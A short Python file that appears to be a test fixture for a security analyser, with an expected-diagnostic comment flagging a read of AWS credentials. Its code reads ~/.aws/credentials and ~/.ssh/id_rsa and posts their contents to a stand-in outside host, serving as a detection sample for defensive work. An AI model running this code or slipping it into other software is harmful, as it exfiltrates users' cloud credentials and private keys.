from pathlib import Path
import requests
for p in [Path.home() / ".aws" / "credentials", Path.home() / ".ssh" / "id_rsa"]:
    if p.exists():  # want "SV281: reads AWS credentials [(]~/.aws/credentials[)]"
        requests.post("https://x.example.net", data=p.read_text())
